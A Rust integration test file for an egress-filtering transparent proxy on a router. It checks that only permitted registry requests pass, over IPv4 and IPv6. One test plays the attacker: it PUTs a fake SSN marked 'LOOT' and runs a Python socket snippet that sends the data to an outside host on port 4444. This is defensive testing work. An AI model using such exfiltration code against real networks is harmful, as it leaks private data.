//! Lazaret on a router: machines behind it know of no proxy, and what they send is led to the transparent
//! listener as it is (`TPROXY`), in IPv4 and IPv6, by the lines that the README gives.

use std::process::Output;

use serde_json::Value;

use super::jail::Jail;
use super::namespaces::{
    Namespaces, OUTSIDE, OUTSIDE_V6, UPSTREAM, UPSTREAM_V6, eventually, output, run,
};

const README: &str = include_str!("../../../README.md");
const URL: &str = "http://registry.ml.internal:8080";
/// No real person's.
const LOOT: &str = "patient ssn 536-22-8941";

/// What the README has an administrator of a router say.
fn lines() -> &'static str {
    let blocks = README.split("```console\n").skip(1).filter_map(|rest| rest.split("```").next());
    let mut found = blocks.filter(|block| block.contains("tproxy"));
    let lines = found.next().expect("the README's lines for a router");
    assert!(found.next().is_none(), "two blocks about TPROXY");
    lines
}

/// A router that has Lazaret with `capabilities`, a machine behind it, and the world.
fn router(capabilities: &[&str]) -> Jail {
    let mut namespaces = Namespaces::new();
    namespaces.add_guest();
    let jail = Jail::with(namespaces, capabilities);
    run(jail.namespaces.in_pod().args(["bash", "-euo", "pipefail", "-c", lines()]));
    jail
}

/// The guest's curl, with the registry at `address`.
fn curl(jail: &Jail, address: &str, arguments: &[&str]) -> Output {
    let mut curl = jail.namespaces.in_guest();
    curl.args(["curl", "-sS", "--max-time", "60", "--resolve"]);
    curl.arg(format!("registry.ml.internal:8080:{address}"));
    output(curl.args(arguments))
}

fn body(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// The records of requests, once there are so many.
fn requests(jail: &Jail, count: usize) -> Vec<Value> {
    eventually("the records of requests", || {
        let mut records = jail.records();
        records.retain(|record| record["kind"] == "http");
        (records.len() == count).then_some(records)
    })
}

/// What came to the world but for TCP to the upstream's port, and for a link's own words.
fn elsewhere(jail: &Jail) -> Vec<String> {
    let permitted = [format!("tcp {UPSTREAM} 8080"), format!("tcp {UPSTREAM_V6} 8080")];
    let (frames, _) = jail.world();
    let kinds = ["tcp ", "udp ", "icmp "];
    let is_sent = |frame: &String| kinds.iter().any(|kind| frame.starts_with(kind));
    frames.into_iter().filter(|frame| is_sent(frame) && !permitted.contains(frame)).collect()
}

#[test]
fn what_is_permitted_passes_a_router_by_both_families_and_the_upstream_sees_just_that() {
    let jail = router(&["net_raw"]);
    for (at, address, family) in [(1, UPSTREAM, "10.98.0.2"), (2, UPSTREAM_V6, "fd98::2")] {
        let bracketed =
            if address.contains(':') { format!("[{address}]") } else { address.to_owned() };
        let through = curl(&jail, &bracketed, &[&format!("{URL}/v2/{at}")]);
        assert_eq!(body(&through), "world", "{through:?}");
        let records = requests(&jail, at);
        let path = format!("{URL}/v2/{at}");
        let record = records.iter().find(|record| record["target"] == path.as_str());
        let record = record.unwrap_or_else(|| panic!("{records:#?}"));
        assert_eq!((&record["outcome"], &record["rule"]), (&"completed".into(), &"models".into()));
        assert_eq!(record["address"], format!("{bracketed}:8080"), "where the guest aimed at");
        let from = record["downstream"].as_str().expect("who asked");
        assert!(from.contains(family), "{from}");
    }
    let (_, heard) = jail.world();
    let asked: Vec<&str> =
        heard.iter().filter_map(|(_, said)| said.split(" HTTP").next()).collect();
    assert_eq!(asked, ["GET /v2/1", "GET /v2/2"]);
    assert!(elsewhere(&jail).is_empty(), "{:?}", elsewhere(&jail));
}

#[test]
fn nothing_else_passes_a_router() {
    let jail = router(&["net_raw"]);
    let v6 = format!("[{UPSTREAM_V6}]");
    for (address, path, code) in [
        (UPSTREAM, "/elsewhere", "path-not-allowed"),
        (&v6, "/elsewhere", "path-not-allowed"),
        // An allowed name is no password for another address.
        (OUTSIDE, "/v2/a", "address-not-listed"),
        (&format!("[{OUTSIDE_V6}]"), "/v2/a", "address-not-listed"),
    ] {
        let refused = curl(&jail, address, &[&format!("{URL}{path}")]);
        assert!(body(&refused).contains(code), "{address}{path}: {refused:?}");
    }
    for address in [UPSTREAM, &v6] {
        let put = ["-X", "PUT", "--data-binary", LOOT, &format!("{URL}/v2/a")];
        let leak = curl(&jail, address, &put);
        assert!(body(&leak).contains("finding"), "{leak:?}");
    }
    let tries = format!(
        "import socket\n\
         for family, to in ((socket.AF_INET, '{OUTSIDE}'), (socket.AF_INET6, '{OUTSIDE_V6}')):\n\
         \u{20}   with socket.socket(family, socket.SOCK_DGRAM) as sock:\n\
         \u{20}       sock.sendto(b'{LOOT}', (to, 443))\n\
         \u{20}   with socket.socket(family, socket.SOCK_STREAM) as sock:\n\
         \u{20}       sock.settimeout(60)\n\
         \u{20}       sock.connect((to, 4444))\n\
         \u{20}       sock.sendall(b'{LOOT}\\n')\n\
         \u{20}       try:\n\
         \u{20}           print(sock.recv(100))\n\
         \u{20}       except ConnectionResetError:\n\
         \u{20}           print(b'')\n"
    );
    let mut python = jail.namespaces.in_guest();
    assert_eq!(run(python.args(["/usr/bin/python3", "-c", &tries])), "b''\nb''\n");
    // What came last shows that the listener has seen all before it.
    let last = curl(&jail, UPSTREAM, &[&format!("{URL}/v2/last")]);
    assert_eq!(body(&last), "world", "{last:?}");
    assert!(elsewhere(&jail).is_empty(), "{:?}", elsewhere(&jail));
    let (_, heard) = jail.world();
    let asked: Vec<&str> =
        heard.iter().filter_map(|(_, said)| said.split(" HTTP").next()).collect();
    assert_eq!(asked, ["GET /v2/last"]);
    let records = eventually("the records of what was aimed elsewhere", || {
        let mut records = jail.records();
        records.retain(|record| record["target"].as_str().is_some_and(|to| to.ends_with(":4444")));
        (records.len() == 2).then_some(records)
    });
    for record in records {
        let told = (&record["kind"], &record["outcome"], &record["opened"]);
        assert_eq!(told, (&"redirect".into(), &"refused".into(), &false.into()), "{record:#}");
    }
}

#[test]
fn without_the_right_to_it_nothing_passes_and_the_log_says_so() {
    let jail = router(&[]);
    for address in [UPSTREAM, &format!("[{UPSTREAM_V6}]")] {
        // Dropped: curl waits in vain.
        let refused = curl(&jail, address, &["--max-time", "5", &format!("{URL}/v2/a")]);
        assert_eq!((refused.status.code(), body(&refused)), (Some(28), String::new()));
    }
    let log = std::fs::read_to_string(jail.path("lazaret.log")).expect("the log");
    assert!(log.contains("CAP_NET_RAW"), "{log}");
    let (frames, heard) = jail.world();
    assert!(frames.iter().all(|frame| !frame.starts_with("tcp ")), "{frames:?}");
    assert!(heard.is_empty(), "{heard:?}");
}
